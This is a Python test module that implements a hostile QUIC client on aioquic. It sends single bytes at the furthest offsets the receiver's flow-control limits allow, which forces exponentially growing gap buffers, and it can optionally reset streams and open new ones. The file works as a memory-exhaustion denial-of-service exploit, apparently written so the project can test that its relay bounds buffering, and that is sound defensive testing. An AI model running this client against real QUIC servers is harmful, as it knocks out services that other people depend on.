"""A hostile QUIC client that makes a receiver buffer gaps: one byte at a time, each as far
ahead as the receiver's flow-control limits allow.

A QUIC receiver must hold out-of-order data until the gap before it is filled, and aioquic
holds it in one ``bytearray`` per stream, zero-filled up to the byte that arrived. aioquic also
raises its limits when data *arrives* (MAX_STREAM_DATA and MAX_DATA double once half of a limit
is reached), so a peer that sends one byte at ``limit - 1``, waits for the doubled limit, and
does it again makes the receiver allocate exponentially growing buffers with a few tiny
packets. A receiver that grants credit as its application consumes data never moves its
limits here (nothing is consumed: the gap is never filled), so it holds at most its windows.

This is test code: it drives aioquic's ``QuicConnection`` through its internals (a stream
sender of its own, the peer's limits as aioquic tracks them) to write STREAM frames at chosen
offsets. It knows nothing of the server's implementation beyond the wire: the ALPN of
tunnel/wire/constants.py and, to authenticate first, the frames of docs/PROTOCOL.md.
"""

from __future__ import annotations

import asyncio
import json
import ssl
import struct
from dataclasses import dataclass, field

from aioquic.quic import events
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicStreamFrame
from aioquic.quic.packet_builder import QuicDeliveryState
from aioquic.quic.stream import QuicStreamSender

from tunnel.wire.constants import QUIC_ALPN

#: docs/PROTOCOL.md: frame header (type, flags, reserved, stream id, length) and HELLO payload.
_HEADER = struct.Struct(">BBHII")
_HELLO = struct.Struct(">BBHIIII")
_HELLO_TYPE = 0x6
_CONTROL_TYPE = 0x7


def wire_frame(frame_type: int, payload: bytes, stream_id: int = 0, flags: int = 0) -> bytes:
    """One frame of docs/PROTOCOL.md."""
    return _HEADER.pack(frame_type, flags, 0, stream_id, len(payload)) + payload


def hello_and_auth(token: str, resource: str) -> bytes:
    """What an agent sends first on its control stream: HELLO, then CONTROL ``auth``."""
    hello = _HELLO.pack(1, 1, 0, 256 * 1024, 1024 * 1024, 64 * 1024, 64)
    auth = json.dumps({"type": "auth", "token": token, "agent": {}, "resources": [{"name": resource}]}).encode()
    return wire_frame(_HELLO_TYPE, hello) + wire_frame(_CONTROL_TYPE, auth)


def control_messages(data: bytes) -> list[dict]:
    """The CONTROL messages among the whole frames of ``data`` (the relay's control stream)."""
    messages = []
    pos = 0
    while pos + _HEADER.size <= len(data):
        frame_type, _flags, _reserved, _sid, length = _HEADER.unpack_from(data, pos)
        if pos + _HEADER.size + length > len(data):
            break
        if frame_type == _CONTROL_TYPE:
            try:
                messages.append(json.loads(data[pos + _HEADER.size:pos + _HEADER.size + length]))
            except ValueError:
                pass
        pos += _HEADER.size + length
    return messages


@dataclass
class Budget:
    """What the attack may still make the peer account for: the sum of the highest offsets
    it sends, capped so that a receiver without a bound does not take the test machine down."""

    cap: int
    probes: int = 0  #: one-byte frames sent at a new highest offset


class GapSender(QuicStreamSender):
    """A stream sender that, besides what is written to it, sends single bytes at the highest
    offset the peer's limits allow whenever :meth:`arm` was called since the last one."""

    def __init__(self, stream_id: int, conn: QuicConnection, budget: Budget) -> None:
        super().__init__(stream_id, True)
        self._conn = conn
        self._budget = budget
        self._armed = False

    def arm(self) -> None:
        self._armed = True
        self.buffer_is_empty = False

    def get_frame(self, max_size: int, max_offset: int | None = None):
        if len(self._pending):  # bytes written the ordinary way go first
            return super().get_frame(max_size, max_offset)
        # aioquic sized the frame's header for offset 0: leave room for an 8-byte offset
        if not self._armed or max_offset is None or max_size < 16 or self._reset_error_code is not None:
            self.buffer_is_empty = not self._armed
            return None
        self._armed = False
        self.buffer_is_empty = True
        used = self._conn._remote_max_data_used
        target = min(max_offset, self.highest_offset + max(0, self._budget.cap - used))
        if target <= self.highest_offset:
            return None
        self.highest_offset = target
        self._budget.probes += 1
        return QuicStreamFrame(data=b"\0", offset=target - 1)

    def on_data_delivery(self, delivery: QuicDeliveryState, start: int, stop: int, fin: bool) -> None:
        if start >= self._buffer_stop:
            return  # a probe: never resent (the next one goes further anyway)
        super().on_data_delivery(delivery, start, stop, fin)


@dataclass
class AttackReport:
    """What one attack did and saw."""

    seconds: float = 0.0
    datagrams_sent: int = 0
    probes: int = 0
    streams: int = 0  #: streams attacked
    #: Sum over the attacked streams of the highest offset sent (bytes the peer must account for).
    offsets_sent: int = 0
    #: Largest MAX_DATA and MAX_STREAM_DATA the peer granted.
    max_data: int = 0
    max_stream_data: int = 0
    #: (error code, reason) if the peer closed the connection.
    closed: tuple[int, str] | None = None
    grants: list[tuple[float, int]] = field(default_factory=list)  #: (time, MAX_DATA) as it moved


class GapAttacker(asyncio.DatagramProtocol):
    """A QUIC client (ALPN ``QUIC_ALPN``, no certificate check) driven by the test: start it
    with :func:`open_gap_attacker`, optionally :meth:`authenticate`, then :meth:`attack`."""

    def __init__(self) -> None:
        self.loop = asyncio.get_running_loop()
        self.conn = QuicConnection(configuration=QuicConfiguration(
            is_client=True, alpn_protocols=[QUIC_ALPN], verify_mode=ssl.CERT_NONE, server_name="localhost",
            idle_timeout=60.0))
        self.transport: asyncio.DatagramTransport | None = None
        self.handshake_done = self.loop.create_future()
        self.changed = asyncio.Event()  #: set whenever a datagram was processed
        self.received: dict[int, bytearray] = {}  #: stream id -> bytes received on it
        self.closed: tuple[int, str] | None = None
        self.datagrams_sent = 0
        self.budget = Budget(cap=0)
        self._timer: asyncio.TimerHandle | None = None

    # --- I/O ---------------------------------------------------------------------------

    def connection_made(self, transport) -> None:
        self.transport = transport
        self.conn.connect(transport.get_extra_info("peername"), now=self.loop.time())
        self.transmit()

    def datagram_received(self, data: bytes, addr) -> None:
        self.conn.receive_datagram(data, addr, now=self.loop.time())
        self._events()
        self.transmit()
        self.changed.set()

    def error_received(self, exc) -> None:
        pass

    def _events(self) -> None:
        while (event := self.conn.next_event()) is not None:
            if isinstance(event, events.HandshakeCompleted):
                if not self.handshake_done.done():
                    self.handshake_done.set_result(event.alpn_protocol)
            elif isinstance(event, events.StreamDataReceived):
                self.received.setdefault(event.stream_id, bytearray()).extend(event.data)
            elif isinstance(event, events.ConnectionTerminated):
                self.closed = (event.error_code, event.reason_phrase)
                if not self.handshake_done.done():
                    self.handshake_done.set_exception(ConnectionError(f"closed: {self.closed}"))

    def transmit(self) -> None:
        now = self.loop.time()
        for data, _addr in self.conn.datagrams_to_send(now=now):
            self.transport.sendto(data)
            self.datagrams_sent += 1
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None
        at = self.conn.get_timer()
        if at is not None:
            self._timer = self.loop.call_at(at, self._on_timer)

    def _on_timer(self) -> None:
        self._timer = None
        self.conn.handle_timer(now=self.loop.time())
        self._events()
        self.transmit()
        self.changed.set()

    def close(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
        if self.transport is not None and self.closed is None:
            self.conn.close()
            self.transmit()
        if self.transport is not None:
            self.transport.close()

    async def wait_for(self, condition, timeout: float, what: str) -> None:
        """Wait (deadline ``timeout``) until ``condition()`` holds after some datagram or timer."""
        deadline = self.loop.time() + timeout
        while not condition():
            left = deadline - self.loop.time()
            if left <= 0:
                raise AssertionError(f"timed out after {timeout}s waiting for {what}")
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), left)
            except asyncio.TimeoutError:
                pass

    # --- protocol ------------------------------------------------------------------------

    def _sender(self, stream_id: int) -> GapSender:
        stream = self.conn._get_or_create_stream_for_send(stream_id)
        if not isinstance(stream.sender, GapSender):
            assert not stream.sender._buffer_stop, "stream already used by the ordinary sender"
            stream.sender = GapSender(stream_id, self.conn, self.budget)
        return stream.sender

    async def authenticate(self, token: str, resource: str, timeout: float = 10.0) -> dict:
        """Send HELLO and ``auth`` on the control stream (0), as docs/PROTOCOL.md's QUIC mapping
        says; return the relay's first CONTROL answer."""
        sender = self._sender(0)
        sender.write(hello_and_auth(token, resource))
        self.transmit()
        await self.wait_for(lambda: self.closed or control_messages(bytes(self.received.get(0, b""))),
                            timeout, "the relay's answer to auth")
        if self.closed:
            raise ConnectionError(f"closed before answering auth: {self.closed}")
        return control_messages(bytes(self.received[0]))[0]

    def peer_streams(self) -> list[int]:
        """Bidirectional streams the server opened so far."""
        return sorted(sid for sid in self.received if sid % 4 == 1)

    async def attack(self, stream_ids: list[int], *, seconds: float, max_datagrams: int, cap: int,
                     renew: bool = False, on_round=None) -> AttackReport:
        """For ``seconds`` (and at most ``max_datagrams`` datagrams sent, and ``cap`` bytes of
        offsets), send on each stream of ``stream_ids`` one byte at the furthest offset the
        server's last MAX_STREAM_DATA and MAX_DATA allow, then wait for the server to answer
        (an ACK, a new limit) and do it again. With ``renew``, each round first resets the
        streams of the last one (final size: the probe's end) and goes on with as many new
        streams of our own: the gaps must be freed, not only bounded per stream.
        ``on_round()`` is called once per round."""
        report = AttackReport()
        self.budget.cap = self.conn._remote_max_data_used + cap
        start = self.loop.time()
        deadline = start + seconds
        senders = [self._sender(sid) for sid in stream_ids]
        touched = list(senders)
        sent0 = self.datagrams_sent
        first = True
        while (self.closed is None and self.loop.time() < deadline and self.datagrams_sent - sent0 < max_datagrams
               and self.conn._remote_max_data_used < self.budget.cap):
            if renew and not first:
                for i, sender in enumerate(senders):
                    if sender.highest_offset:
                        self.conn.reset_stream(sender._stream_id, 0)
                        senders[i] = self._sender(self.conn.get_next_available_stream_id())
                        touched.append(senders[i])
            first = False
            for sender in senders:
                sender.arm()
            self.transmit()
            if not report.grants or report.grants[-1][1] != self.conn._remote_max_data:
                report.grants.append((self.loop.time() - start, self.conn._remote_max_data))
            if on_round is not None:
                on_round()
            # the next round once a limit moved (or the server answered and stays put)
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), min(0.2, max(0.0, deadline - self.loop.time())))
            except asyncio.TimeoutError:
                pass
        report.seconds = self.loop.time() - start
        report.datagrams_sent = self.datagrams_sent - sent0
        report.probes = self.budget.probes
        report.offsets_sent = sum(s.highest_offset for s in touched)
        report.streams = len(touched)
        report.max_data = self.conn._remote_max_data
        report.max_stream_data = max((self.conn._streams[s._stream_id].max_stream_data_remote for s in touched
                                      if s._stream_id in self.conn._streams), default=0)
        report.closed = self.closed
        return report


async def open_gap_attacker(host: str, port: int, timeout: float = 10.0) -> GapAttacker:
    """A :class:`GapAttacker` with its QUIC handshake done."""
    loop = asyncio.get_running_loop()
    _, attacker = await loop.create_datagram_endpoint(GapAttacker, remote_addr=(host, port))
    try:
        alpn = await asyncio.wait_for(asyncio.shield(attacker.handshake_done), timeout)
    except BaseException:
        attacker.close()
        raise
    assert alpn == QUIC_ALPN, alpn
    return attacker
